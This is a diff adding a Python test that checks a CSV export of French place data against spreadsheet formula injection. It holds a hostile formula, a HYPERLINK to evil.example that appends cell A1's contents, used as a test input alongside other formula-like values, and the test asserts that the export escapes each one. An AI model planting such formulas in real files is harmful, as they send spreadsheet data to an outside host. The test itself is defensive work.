@@ -4,6 +4,8 @@ standard's own CI validates files."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import uuid
 from datetime import UTC, datetime
@@ -60,3 +62,33 @@ def test_places_with_coordinates_are_a_geojson_feature_collection() -> None:
     assert len(collection["features"]) == len(DEMO_PLACES)
     longitude, latitude = collection["features"][0]["geometry"]["coordinates"]
     assert 2.5 < longitude < 3.5 and 50 < latitude < 51  # Lille, longitude first
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+
+
+def test_formula_like_names_are_written_as_text_and_the_export_stays_valid(
+    tmp_path: Path,
+) -> None:
+    """A place typed as a formula opens as text; its number and phone columns keep their
+    sign, which the schema's number type and +33 pattern need."""
+    (place,) = _places()[:1]
+    hostile = msgspec.structs.replace(
+        place,
+        name=HOSTILE,
+        address="-2+3 rue de la Paix",
+        commune="@SUM(1)",
+        accessibility="\tRampe d'accès",
+        opening_hours="+Mo-Fr 09:00-12:00",
+        longitude=-1.553621,
+        phone="+33320123456",
+    )
+    text = places_csv([hostile], "=Boucle")
+    assert _report(text, tmp_path).valid, _report(text, tmp_path).flatten(["fieldName", "message"])
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["nom"] == "'" + HOSTILE
+    assert row["adresse"] == "'-2+3 rue de la Paix"
+    assert row["commune"] == "'@SUM(1)"
+    assert row["presentation_detail"] == "'\tRampe d'accès"
+    assert row["source"] == "'=Boucle"
+    assert (row["longitude"], row["telephone"]) == ("-1.553621", "+33320123456")
